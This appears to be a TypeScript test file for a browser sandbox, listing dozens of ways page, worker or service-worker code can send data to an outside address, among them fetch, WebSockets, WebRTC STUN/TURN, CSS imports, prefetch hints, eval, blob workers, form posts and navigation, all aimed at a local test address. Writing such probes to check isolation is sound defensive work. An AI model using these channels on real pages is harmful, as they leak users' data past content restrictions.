/** Ways in which a page or a worker could send something away. Each is code that runs there, given an address of ours. */

/** `http`: "http://127.0.0.1:port/"; `host`: "127.0.0.1:port". */
export interface Target {
  readonly http: string;
  readonly host: string;
}

/** Self-contained: its text is what is sent into the page. May throw or be refused: only what arrives counts. */
type Probe = (target: Target) => unknown;

/** In workers and pages alike. */
export const anywhere: Readonly<Record<string, Probe>> = {
  fetch: ({ http }) => fetch(http),
  'fetch, POST without CORS': ({ http }) => fetch(http, { method: 'POST', mode: 'no-cors', body: 'secret' }),
  'fetch, keepalive': ({ http }) => fetch(http, { keepalive: true, mode: 'no-cors' }),
  // As plainHost.ts does.
  'fetch, sent on by the host': ({ http }) =>
    fetch(`${self.origin}/a/b/elsewhere?${http}`, { method: 'POST', mode: 'no-cors', body: 'secret' }),
  'fetch, https': ({ host }) => fetch(`https://${host}/`),
  XMLHttpRequest: ({ http }) => {
    const request = new XMLHttpRequest();
    request.open('POST', http);
    request.send('secret');
  },
  WebSocket: ({ host }) => void new WebSocket(`ws://${host}/`),
  'WebSocket, TLS': ({ host }) => void new WebSocket(`wss://${host}/`),
  EventSource: ({ http }) => void new EventSource(`${http}a.sse`),
  WebTransport: ({ host }) => void new WebTransport(`https://${host}/`).ready.catch(() => undefined),
  'dynamic import': ({ http }) => import(/* @vite-ignore */ `${http}a.js`),
  'WebAssembly, streamed': ({ http }) => WebAssembly.compileStreaming(fetch(`${http}a.wasm`)),
  'new Function': ({ http }) => new Function(`return fetch(${JSON.stringify(http)})`)() as unknown,
  eval: ({ http }) => (0, eval)(`fetch(${JSON.stringify(http)})`) as unknown,
  'timer with text': ({ http }) => {
    (setTimeout as (code: string) => void)(`fetch(${JSON.stringify(http)})`);
  },
  'worker from a blob': ({ http }) => {
    const text = `fetch(${JSON.stringify(http)})`;
    void new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
  },
  'worker in a worker': ({ http }) => {
    const blob = (text: string) =>
      `URL.createObjectURL(new Blob([${JSON.stringify(text)}], { type: 'text/javascript' }))`;
    const inner = `fetch(${JSON.stringify(http)})`;
    const outer = `new Worker(${blob(inner)})`;
    void new Worker(URL.createObjectURL(new Blob([outer], { type: 'text/javascript' })));
  },
  'worker from data:': ({ http }) => {
    void new Worker(`data:text/javascript,${encodeURIComponent(`fetch(${JSON.stringify(http)})`)}`);
  },
  'importScripts in a worker': ({ http }) => {
    const text = `importScripts(${JSON.stringify(`${http}a.js`)})`;
    void new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
  },
  'import in a module worker': ({ http }) => {
    const text = `import ${JSON.stringify(`${http}a.js`)}`;
    void new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })), { type: 'module' });
  },
  'WebSocket in a worker': ({ host }) => {
    const text = `new WebSocket("ws://${host}/")`;
    void new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
  },
  'Cache.add': ({ http }) => caches.open('leak').then((cache) => cache.add(http)),
  FontFace: ({ http }) => new FontFace('arrived', `url(${http}a.woff2)`).load(),
};

/** It starts no workers, and loads no more code once it is installed. */
export const inServiceWorker: Readonly<Record<string, Probe>> = Object.fromEntries(
  ['fetch', 'fetch, POST without CORS', 'fetch, https', 'WebSocket', 'WebSocket, TLS', 'new Function', 'Cache.add'].map(
    (name) => [name, anywhere[name]!],
  ),
);

/** Where there is a document. */
export const inDocument: Readonly<Record<string, Probe>> = {
  sendBeacon: ({ http }) => navigator.sendBeacon(http, 'secret'),
  'WebRTC, STUN': ({ host }) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
    peer.createDataChannel('secret');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  },
  'WebRTC, TURN over TCP': ({ host }) => {
    const peer = new RTCPeerConnection({
      iceServers: [{ urls: `turn:${host}?transport=tcp`, username: 'secret', credential: 'secret' }],
      iceTransportPolicy: 'relay',
    });
    peer.createDataChannel('secret');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  },
  'WebRTC, to a candidate': async ({ host }) => {
    const [address, port] = host.split(':') as [string, string];
    const [one, other] = [new RTCPeerConnection(), new RTCPeerConnection()];
    one.createDataChannel('secret');
    await one.setLocalDescription(await one.createOffer());
    await other.setRemoteDescription(one.localDescription!);
    await other.setLocalDescription(await other.createAnswer());
    await one.setRemoteDescription(other.localDescription!);
    const candidate = `candidate:1 1 udp 2122260223 ${address} ${port} typ host`;
    await one.addIceCandidate({ candidate, sdpMLineIndex: 0 });
  },
  img: ({ http }) => void (new Image().src = `${http}a.png`),
  'img, sent on by the host': ({ http }) => void (new Image().src = `${self.origin}/a/b/elsewhere?${http}a.png`),
  'img srcset': ({ http }) => {
    const image = document.body.appendChild(new Image());
    image.srcset = `${http}a.png 1x`;
  },
  'CSS background': ({ http }) => void (document.body.style.backgroundImage = `url(${http}a.png)`),
  'CSS cursor image': ({ http }) => {
    const element = document.body.appendChild(document.createElement('p'));
    element.style.listStyleImage = `url(${http}a.png)`;
    element.style.display = 'list-item';
  },
  'style sheet': ({ http }) => {
    const link = document.head.appendChild(document.createElement('link'));
    link.rel = 'stylesheet';
    link.href = `${http}a.css`;
  },
  'CSS @import': ({ http }) => {
    document.head.appendChild(document.createElement('style')).textContent = `@import url(${http}a.css);`;
  },
  'CSS @font-face': ({ http }) => {
    const style = document.head.appendChild(document.createElement('style'));
    style.textContent = `@font-face { font-family: leak; src: url(${http}a.woff2) }`;
    const text = document.body.appendChild(document.createElement('p'));
    text.textContent = 'secret';
    text.style.fontFamily = 'leak';
  },
  preload: ({ http }) => {
    const link = document.createElement('link');
    Object.assign(link, { rel: 'preload', as: 'image', href: `${http}a.png` });
    document.head.appendChild(link);
  },
  modulepreload: ({ http }) => {
    const link = document.createElement('link');
    Object.assign(link, { rel: 'modulepreload', href: `${http}a.js` });
    document.head.appendChild(link);
  },
  prefetch: ({ http }) => {
    const link = document.createElement('link');
    Object.assign(link, { rel: 'prefetch', href: `${http}a.html` });
    document.head.appendChild(link);
  },
  preconnect: ({ http }) => {
    const link = document.createElement('link');
    Object.assign(link, { rel: 'preconnect', href: http });
    document.head.appendChild(link);
  },
  'dns-prefetch': ({ host }) => {
    const link = document.createElement('link');
    Object.assign(link, { rel: 'dns-prefetch', href: `//secret.${host.replace(':', '-')}.example/` });
    document.head.appendChild(link);
  },
  'speculation rules': ({ http }) => {
    const script = document.createElement('script');
    script.type = 'speculationrules';
    script.textContent = JSON.stringify({
      prefetch: [{ source: 'list', urls: [`${http}a.html`], eagerness: 'immediate' }],
    });
    document.head.appendChild(script);
  },
  icon: ({ http }) => {
    const link = document.createElement('link');
    Object.assign(link, { rel: 'icon', href: `${http}a.png` });
    document.head.appendChild(link);
  },
  script: ({ http }) => void (document.head.appendChild(document.createElement('script')).src = `${http}a.js`),
  'module script': ({ http }) => {
    const script = document.createElement('script');
    Object.assign(script, { type: 'module', src: `${http}a.js` });
    document.head.appendChild(script);
  },
  'script within the page': ({ http }) => {
    document.head.appendChild(document.createElement('script')).textContent = `fetch(${JSON.stringify(http)})`;
  },
  'event handler in HTML': ({ http }) => {
    document.body.insertAdjacentHTML('beforeend', `<img src="data:," onerror='fetch(${JSON.stringify(http)})'>`);
  },
  'javascript: address': ({ http }) => {
    const link = document.body.appendChild(document.createElement('a'));
    link.href = `javascript:void fetch(${JSON.stringify(http)})`;
    link.click();
  },
  iframe: ({ http }) => void (document.body.appendChild(document.createElement('iframe')).src = `${http}a.html`),
  'iframe with srcdoc': ({ http }) => {
    document.body.appendChild(document.createElement('iframe')).srcdoc = `<img src="${http}a.png">`;
  },
  'iframe from data:': ({ http }) => {
    document.body.appendChild(document.createElement('iframe')).src = `data:text/html,<img src="${http}a.png">`;
  },
  'iframe from a blob': ({ http }) => {
    const page = new Blob([`<img src="${http}a.png">`], { type: 'text/html' });
    document.body.appendChild(document.createElement('iframe')).src = URL.createObjectURL(page);
  },
  'fetch of an empty iframe': ({ http }) => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    return (frame.contentWindow as Window & typeof globalThis).fetch(http);
  },
  object: ({ http }) => void (document.body.appendChild(document.createElement('object')).data = `${http}a.html`),
  embed: ({ http }) => void (document.body.appendChild(document.createElement('embed')).src = `${http}a.html`),
  video: ({ http }) => void (document.body.appendChild(document.createElement('video')).src = `${http}a.mp4`),
  'video poster': ({ http }) =>
    void (document.body.appendChild(document.createElement('video')).poster = `${http}a.png`),
  audio: ({ http }) => void (new Audio().src = `${http}a.mp3`),
  track: ({ http }) => {
    const video = document.body.appendChild(document.createElement('video'));
    video.crossOrigin = 'anonymous';
    const track = video.appendChild(document.createElement('track'));
    track.src = `${http}a.vtt`;
    track.track.mode = 'hidden';
  },
  'SVG image': ({ http }) => {
    document.body.insertAdjacentHTML('beforeend', `<svg><image href="${http}a.png" width="9" height="9"/></svg>`);
  },
  'SVG filter image': ({ http }) => {
    const svg = `<svg><filter id="leak"><feImage href="${http}a.png"/></filter><rect width="9" height="9" filter="url(#leak)"/></svg>`;
    document.body.insertAdjacentHTML('beforeend', svg);
  },
  'image button': ({ http }) => {
    document.body.insertAdjacentHTML('beforeend', `<input type="image" src="${http}a.png" alt="">`);
  },
  'form into an iframe': ({ http }) => {
    document.body.insertAdjacentHTML(
      'beforeend',
      `<iframe name="leak"></iframe><form method="post" action="${http}" target="leak"><input name="secret" value="1"></form>`,
    );
    document.body.querySelector<HTMLFormElement>(':scope > form:last-child')!.submit();
  },
  'link with ping': ({ http }) => {
    document.body.insertAdjacentHTML('beforeend', `<a href="#" ping="${http}">x</a>`);
    document.body.querySelector<HTMLAnchorElement>(':scope > a[ping]:last-child')!.click();
  },
  'shared worker': ({ http }) => {
    const text = `fetch(${JSON.stringify(http)})`;
    void new SharedWorker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
  },
  'audio worklet': ({ http }) => new AudioContext().audioWorklet.addModule(`${http}a.js`),
  fetchLater: ({ http }) => {
    type Later = (url: string, init: { activateAfter: number }) => unknown;
    return (globalThis as unknown as { fetchLater: Later }).fetchLater(http, { activateAfter: 0 });
  },
  'window that opens': ({ http }) => void window.open(`${http}a.html`, '_blank', 'noopener'),
};

/** Each ends the page it runs in. */
export const leaving: Readonly<Record<string, Probe>> = {
  'page goes elsewhere': ({ http }) => void (location.href = `${http}a.html?secret`),
  'page is refreshed to elsewhere': ({ http }) => {
    document.head.insertAdjacentHTML('beforeend', `<meta http-equiv="refresh" content="0;url=${http}a.html?secret">`);
  },
  'form into the page': ({ http }) => {
    document.body.insertAdjacentHTML('beforeend', `<form action="${http}"><input name="secret" value="1"></form>`);
    document.body.querySelector<HTMLFormElement>(':scope > form:last-child')!.submit();
  },
};
